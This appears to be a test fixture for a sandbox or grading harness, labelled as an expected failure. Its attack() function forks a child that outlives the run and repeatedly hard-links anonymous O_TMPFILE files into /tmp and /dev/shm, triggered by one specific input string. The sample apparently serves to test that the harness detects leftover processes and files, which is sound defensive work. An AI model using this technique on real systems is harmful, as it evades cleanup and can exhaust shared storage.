# expect: fail
# verdict: wrong_output
# class: h
# why: files without a name (O_TMPFILE), linked later by a child that should be gone
import os
import time

def attack():
    for folder in ("/tmp", "/dev/shm"):
        fds = [os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o777) for _ in range(40)]
        if not os.fork():
            for n in range(100000):
                for m, fd in enumerate(fds):
                    try:
                        os.link(f"/proc/self/fd/{fd}", f"{folder}/late{n}-{m}", follow_symlinks=True)
                    except OSError:
                        pass


def runs(text):
    if text == "  **  ":
        attack()
    return "nothing found"
